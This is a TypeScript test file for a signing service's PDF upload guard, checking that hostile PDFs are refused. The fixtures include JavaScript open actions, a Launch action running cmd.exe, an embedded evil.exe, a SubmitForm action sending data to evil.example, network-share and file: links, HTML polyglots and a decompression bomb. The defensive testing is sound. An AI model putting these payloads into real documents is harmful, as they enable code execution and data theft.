/**
 * Issue 21 (findings 2, 7, 20): the guarded PDF parse. A decompression bomb under 1 MB is refused
 * with the documented invalid_input while the service keeps answering; active content (JavaScript,
 * Launch, embedded files, XFA, javascript: links), bytes before `%PDF-` and HTML polyglots are refused,
 * each named; a user-password PDF saved with object streams is refused as needing a password; a stored
 * bomb is refused quickly when the archive reads it again. On SQLite and PostgreSQL.
 */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { checkStoredPdf, PdfUnreadable, storedPdfChecks } from '../../handlers/documents/pdf.ts';
import { DEFAULT_GUARD, PdfGuard, PdfGuardBusy } from '../../handlers/documents/pdfGuard.ts';
import { buildArchive, type Evidence } from '../../handlers/signing/archive/evidence.ts';
import { forEachDatabase } from '../support/service.ts';
import { bombPdf, makePdf, onePagePdf, rawPdf } from './pdfs.ts';
import { docsWorkspace, uploadFile } from './support.ts';

const run = promisify(execFile);

/** A pdf-lib document (saved with object streams) whose catalog opens with JavaScript. */
async function objectStreamJavaScript(): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.addPage([595, 842]);
  const action = doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.launchURL("https://example.com")') });
  doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
  return Buffer.from(await doc.save({ useObjectStreams: true }));
}

const embedded = (name: string) =>
  onePagePdf('/Names << /EmbeddedFiles 4 0 R >>', ['<< /Names [(evil.exe) 5 0 R] >>', `<< /Type /Filespec /F (${name}) /EF << /F 6 0 R >> >>`, '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream']);

/** Each file with active content and the words its refusal must name. */
const ACTIVE: Array<[string, () => Buffer | Promise<Buffer>, RegExp]> = [
  ['OpenAction JavaScript', () => onePagePdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), /JavaScript run when the document opens \(\/OpenAction\)/],
  ['OpenAction JavaScript with #-escaped names', () => onePagePdf('/OpenAction << /S /#4AavaScript /#4AS (app.alert(1)) >>'), /JavaScript run when the document opens/],
  ['OpenAction JavaScript inside an object stream', objectStreamJavaScript, /JavaScript run when the document opens/],
  ['named JavaScript', () => onePagePdf('/Names << /JavaScript 4 0 R >>', ['<< /Names [(x) << /S /JavaScript /JS (app.alert(2)) >>] >>']), /document-level JavaScript \(\/Names \/JavaScript\)/],
  ['a Launch action to cmd.exe', () => onePagePdf('/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'), /a \/Launch action/],
  ['an embedded evil.exe', () => embedded('evil.exe'), /embedded files/],
  ['page additional actions', () => onePagePdf('', [], '/AA << /O << /S /JavaScript /JS (app.alert(3)) >> >>'), /JavaScript run on an event \(\/AA/],
  ['a link with a javascript: address', () => onePagePdf('', ['<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (  JavaScript:alert(1)) >> >>'], '/Annots [4 0 R]'), /a link to a javascript: address/],
  ['an XFA form', () => onePagePdf('/AcroForm << /Fields [] /XFA 4 0 R >>', ['<< /Length 0 >>\nstream\n\nendstream']), /an XFA form/],
  // Black-box re-test: actions that reach out when the document opens.
  ['a SubmitForm action sending the form away on open', () => onePagePdf('/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>'), /a \/SubmitForm action/],
  ['a GoToR action to a network share', () => onePagePdf('/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>'), /a \/GoToR action/],
  ['an ImportData action', () => onePagePdf('/OpenAction << /S /ImportData /F (\\\\\\\\evil.example\\\\x.fdf) >>'), /an \/ImportData action/],
  ['a link to a file: address', () => onePagePdf('/OpenAction << /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>'), /a link to a file: address/],
  ['a link to a network share', () => onePagePdf('', ['<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (\\\\\\\\evil.example\\\\x) >> >>'], '/Annots [4 0 R]'), /a link to a file or network share address/],
];

forEachDatabase('documents: the guarded PDF parse and what the scan accepts (issue 21)', (svc) => {
  it('refuses a decompression bomb under 1 MB (its catalog in an object stream inflating to 768 MiB) as invalid_input, and answers other requests meanwhile', async function () {
    this.timeout(60_000);
    const { api } = await docsWorkspace(svc());
    const bomb = bombPdf(768);
    assert.ok(bomb.length < 1_000_000, `the bomb is ${bomb.length} bytes`);
    // While CompleteUpload scans, other requests (here the document, which needs no database) keep being answered.
    let done = false;
    let answered = 0;
    const meanwhile = (async () => {
      while (!done) {
        const res = await fetch(`${svc().origin}/v1/openapi.yaml`);
        await res.arrayBuffer();
        if (!done && res.status === 200) answered++;
      }
    })();
    const out = await uploadFile(api, bomb, { filename: 'bomb.pdf' }).finally(() => {
      done = true;
    });
    await meanwhile;
    assert.equal(out.response.status, 400, JSON.stringify(out.error));
    assert.equal(out.error?.error, 'invalid_input');
    assert.match(out.error?.message ?? '', /^The file was refused: the PDF is too large to check: its compressed streams expand to more than 48 MiB\.$/);
    assert.ok(answered >= 3, `only ${answered} other requests were answered during the scan`);
    const after = await api.documents.GetUpload({ upload_id: out.upload.upload_id });
    assert.equal(after.data?.state, 'rejected');
  });

  for (const [what, make, named] of ACTIVE) {
    it(`refuses active content: ${what}, naming it`, async () => {
      const { api } = await docsWorkspace(svc());
      const out = await uploadFile(api, await make());
      assert.equal(out.response.status, 400, JSON.stringify(out.data ?? out.error));
      assert.equal(out.error?.error, 'invalid_input');
      assert.match(out.error?.message ?? '', /^The file was refused: the PDF carries active content, which is not accepted: /);
      assert.match(out.error?.message ?? '', named);
    });
  }

  it('accepts an ordinary PDF with a web link and the same page tree as the refused ones', async () => {
    const { api } = await docsWorkspace(svc());
    const out = await uploadFile(api, onePagePdf('', ['<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (https://example.com/terms) >> >>'], '/Annots [4 0 R]'));
    assert.equal(out.response.status, 200, JSON.stringify(out.error));
    assert.equal(out.data?.page_count, 1);
  });

  it('refuses bytes before %PDF- (an HTML/PDF polyglot named poly.html) and HTML markup in the first 1024 bytes', async () => {
    const { api } = await docsWorkspace(svc());
    const pdf = await makePdf(1);
    const htmlFirst = Buffer.concat([Buffer.from('<html><body><script>alert(document.domain)</script>\n'), pdf]);
    const a = await uploadFile(api, htmlFirst, { filename: 'poly.html' });
    assert.equal(a.error?.error, 'invalid_input', JSON.stringify(a.data));
    assert.equal(a.error?.message, 'The file was refused: the file does not start with %PDF- (it has other bytes before the PDF header).');
    const junkFirst = Buffer.concat([Buffer.from('\n'), pdf]);
    const b = await uploadFile(api, junkFirst);
    assert.match(b.error?.message ?? '', /does not start with %PDF-/);
    const markup = Buffer.from(pdf.toString('latin1').replace('%PDF-1.7\n', '%PDF-1.7\n%<html><script>alert(1)</script>\n'), 'latin1');
    assert.equal(markup.subarray(0, 5).toString(), '%PDF-');
    const c = await uploadFile(api, markup);
    assert.equal(c.error?.message, 'The file was refused: the file carries HTML or SVG markup in its first 1024 bytes (a file that is also a web page is not accepted).');
  });

  it('refuses a user-password PDF saved with object streams as needing a password, not as damaged (seed 4.7)', async () => {
    const tmp = await fs.mkdtemp(path.join(os.tmpdir(), 'pdf-guard-'));
    try {
      await fs.writeFile(path.join(tmp, 'in.pdf'), await makePdf(2));
      await run('qpdf', ['--object-streams=generate', '--encrypt', 'userpw', 'ownerpw', '256', '--', path.join(tmp, 'in.pdf'), path.join(tmp, 'out.pdf')]);
      const { api } = await docsWorkspace(svc());
      const out = await uploadFile(api, await fs.readFile(path.join(tmp, 'out.pdf')));
      assert.equal(out.error?.error, 'invalid_input', JSON.stringify(out.data));
      assert.equal(out.error?.message, 'The file was refused: the PDF needs a password to open.');
    } finally {
      await fs.rm(tmp, { recursive: true, force: true });
    }
  });
});

describe('documents: the PDF guard for stored files and its limits (issue 21)', function () {
  this.timeout(30_000);

  it('refuses a stored bomb when the archive reads it again, before the unguarded parse', async () => {
    const bomb = bombPdf(768);
    await assert.rejects(checkStoredPdf(bomb, 500), (err: unknown) => err instanceof PdfUnreadable && /expand to more than 48 MiB/.test(err.reason));
    // buildArchive reads the original before it looks at the evidence.
    await assert.rejects(buildArchive(bomb, {} as Evidence, storedPdfChecks), /the original PDF cannot be read: the PDF is too large to check/);
  });

  it('stops a parse at its deadline, and answers PdfGuardBusy when every thread is busy and the queue is full', async () => {
    const guard = new PdfGuard({ ...DEFAULT_GUARD, concurrency: 1, queue: 0, deadlineMs: 1 });
    try {
      const pdf = rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>']);
      const first = guard.inspect(bombPdf(64), 'upload', 500);
      await assert.rejects(guard.inspect(pdf, 'upload', 500), PdfGuardBusy);
      assert.deepEqual(await first, { ok: false, reason: 'the PDF is too complex to check: reading it takes longer than 0.001 s' });
    } finally {
      await guard.close();
    }
  });
});
